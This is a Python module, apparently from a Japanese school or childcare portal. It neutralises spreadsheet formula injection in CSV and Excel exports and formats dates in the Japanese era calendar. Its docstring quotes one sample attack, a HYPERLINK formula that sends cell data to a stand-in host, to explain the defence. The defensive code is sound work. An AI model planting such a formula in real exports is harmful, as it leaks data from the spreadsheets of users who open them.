"""Every CSV and Excel file the portal writes goes through here, so no cell ever runs as a formula.

A child's name typed as `=HYPERLINK("http://evil.example/?x="&A1,"…")` would be a live formula
in Excel; text that starts like a formula (=, +, -, @, a tab or a carriage return, or their
full-width forms, which Excel and LibreOffice may take as the same) is written with a leading
apostrophe, so it is shown as typed. In Excel files dates are date cells shown in 和暦 and numbers
are numbers (they sort and add up); in CSV, dates are written in 和暦 as the ledger forms show them.
"""

import csv
import io
from collections.abc import Iterable, Sequence
from datetime import date, datetime

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font

from portal.dates import wareki

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
# Excel's own 和暦 display (令和8年4月1日); the cell stays a date that sorts and filters as one.
WAREKI_FORMAT = '[$-ja-JP-x-gannen]ggge"年"m"月"d"日"'
MAX_SHEET_TITLE = 31


def safe_text(value) -> str:
    """Return text that a spreadsheet shows as typed, never runs as a formula."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def unquote_text(text: str) -> str:
    """Undo safe_text on what comes back in an uploaded file made from a template of ours."""
    if text.startswith("'") and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text


def csv_value(value) -> str:
    """Return one CSV cell: dates in 和暦, numbers as digits, text neutralised."""
    if isinstance(value, datetime):
        return safe_text(value.strftime("%Y-%m-%d %H:%M:%S"))
    if isinstance(value, date):
        return wareki(value, weekday=False)
    if isinstance(value, bool):
        return "はい" if value else ""
    if isinstance(value, int | float):
        return str(value)
    return safe_text(value)


def csv_bytes(header: Sequence[str], rows: Iterable[Sequence], *, bom: bool = True) -> bytes:
    """Return a whole CSV file (UTF-8, with a BOM so Excel reads it as such, CRLF line ends)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([safe_text(h) for h in header])
    for row in rows:
        writer.writerow([csv_value(v) for v in row])
    return (("\ufeff" if bom else "") + buffer.getvalue()).encode("utf-8")


def csv_line(row: Sequence) -> list[str]:
    """Return one row's cells for a caller that streams its own csv.writer."""
    return [csv_value(v) for v in row]


def xlsx_cell(sheet, value):
    """Return one Excel cell: a date cell in 和暦, a number, or neutralised text."""
    if isinstance(value, datetime):
        value = value.replace(tzinfo=None)
    cell = WriteOnlyCell(sheet, value=value if _typed(value) else safe_text(value) or None)
    if isinstance(value, date):
        cell.number_format = WAREKI_FORMAT if not isinstance(value, datetime) else "yyyy-mm-dd hh:mm"
    return cell


def _typed(value) -> bool:
    """Tell whether a value goes into Excel as itself (a number or a date), not as text."""
    return isinstance(value, int | float | date) and not isinstance(value, bool)


def xlsx_bytes(sheets: Iterable[tuple[str, Sequence[str], Iterable[Sequence]]]) -> bytes:
    """Return a workbook with one sheet per (title, header, rows); the header row is bold."""
    workbook = Workbook(write_only=True)
    for title, header, rows in sheets:
        sheet = workbook.create_sheet(_title(title))
        bold = []
        for name in header:
            cell = WriteOnlyCell(sheet, value=safe_text(name))
            cell.font = Font(bold=True)
            bold.append(cell)
        sheet.append(bold)
        for row in rows:
            sheet.append([xlsx_cell(sheet, v) for v in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _title(title: str) -> str:
    """Return a sheet title Excel accepts (31 characters, none of []:*?/\\)."""
    for bad in "[]:*?/\\":
        title = title.replace(bad, "・")
    return title[:MAX_SHEET_TITLE] or "Sheet"
